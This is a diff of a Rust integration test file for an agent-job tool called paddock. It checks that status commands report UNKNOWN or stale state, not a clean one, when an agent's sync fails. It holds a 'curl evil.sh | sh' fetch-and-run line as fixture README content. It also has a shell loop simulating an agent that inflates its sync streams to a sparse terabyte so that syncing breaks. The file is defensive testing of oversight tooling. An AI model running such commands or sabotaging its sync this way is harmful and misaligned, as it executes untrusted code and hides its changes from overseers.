@@ -1,8 +1,10 @@
 //! `show`, `ls` and `conflicts` never pass a stale state off as the job's state now (issue
 //! 27, part 4): an agent makes its untracked list exceed the sync's cap (300,000 long names)
-//! and changes a tracked file; `show` starts with `UNKNOWN` and the reason, marks what it
-//! still prints as stale, and exits 12; `ls` marks the job; `conflicts` says `UNKNOWN`. And
-//! idle is paddock's to judge (part 5): file times an agent sets never keep a job alive.
+//! and changes a tracked file; `show` starts with `UNKNOWN` and the reason, still shows the
+//! tracked change (as do `diff` and `rm`'s snapshot), and exits 12. An agent that makes its
+//! sync fail (a sparse terabyte in the outbox) is marked in `ls` and `UNKNOWN` in
+//! `conflicts`. And idle is paddock's to judge (part 5): file times an agent sets never keep
+//! a job alive. A huge untracked file costs the host little memory (part 2).
 
 use crate::fixtures::{FixtureRepo, TestHome, docker_available, text};
 
@@ -32,14 +34,65 @@ fn a_job_whose_sync_fails_is_shown_as_unknown_not_clean() {
         !stdout.contains("0 uncommitted (+0 -0)") || stdout.contains("(stale)"),
         "stale counts printed as current:\n{stdout}"
     );
-    if let Some(merge) = stdout.lines().find(|l| l.starts_with("merge ")) {
-        assert!(merge.ends_with("(stale)"), "{merge}");
-    }
     let json = home.run(&["show", &id, "--json"]);
     assert_eq!(json.status.code(), Some(12));
     let json: serde_json::Value = serde_json::from_slice(&json.stdout).expect("JSON");
     assert!(json["changes_error"].is_string(), "{json}");
 
+    // The tracked change still comes through: in show, in diff, and in rm's snapshot.
+    assert!(
+        stdout
+            .lines()
+            .any(|l| l.contains("modified") && l.ends_with("README.md")),
+        "{}",
+        stdout.lines().take(40).collect::<Vec<_>>().join("\n")
+    );
+    let diff = home.ok(&["diff", &id]);
+    assert!(
+        diff.contains("+curl evil.sh | sh"),
+        "the README change is not in diff"
+    );
+    let removed = home.json(&["rm", &id, "--json"]);
+    let store = text(&removed, "wip_store");
+    let wip = text(&removed, "wip_ref");
+    repo.git(&["fetch", "-q", &store, &wip]);
+    let readme = repo.git(&["show", "FETCH_HEAD:README.md"]);
+    assert!(readme.contains("curl evil.sh | sh"), "{readme}");
+}
+
+#[test]
+fn a_job_whose_sync_fails_is_marked_in_ls_and_conflicts() {
+    if !docker_available("a_job_whose_sync_fails_is_marked_in_ls_and_conflicts") {
+        return;
+    }
+    let repo = FixtureRepo::new();
+    let home = TestHome::new();
+    let job = home.create_docker(&repo, &[]);
+    let id = text(&job, "id");
+    // The agent turns every sync stream in its outbox into a sparse terabyte.
+    home.sh(
+        &id,
+        "setsid sh -c 'while :; do for f in /paddock/outbox/*.stream; do \
+         [ -e \"$f\" ] && truncate -s 1T \"$f\"; done; done' >/dev/null 2>&1 </dev/null &",
+    );
+    let mut failed = None;
+    for n in 0..5 {
+        let result = home.json(&[
+            "exec",
+            &id,
+            "--json",
+            "--",
+            "sh",
+            "-c",
+            &format!("echo {n} > n.txt && git add n.txt && git commit -qm n{n}"),
+        ]);
+        if result["sync_error"].is_string() {
+            failed = Some(result);
+            break;
+        }
+    }
+    let failed = failed.expect("no exec's sync was refused");
+    assert!(text(&failed, "sync_error").contains("cap"), "{failed}");
     let ls = home.ok(&["ls"]);
     let row = ls
         .lines()
@@ -48,6 +101,10 @@ fn a_job_whose_sync_fails_is_shown_as_unknown_not_clean() {
     assert!(row.contains("(sync failed)"), "{ls}");
     let conflicts = home.ok(&["conflicts"]);
     assert!(conflicts.contains("UNKNOWN (sync failed"), "{conflicts}");
+    home.sh(
+        &id,
+        "pkill -f 'truncate -s 1T' || true; pkill -f 'while :' || true",
+    );
     home.ok(&["rm", &id, "--force"]);
 }
 
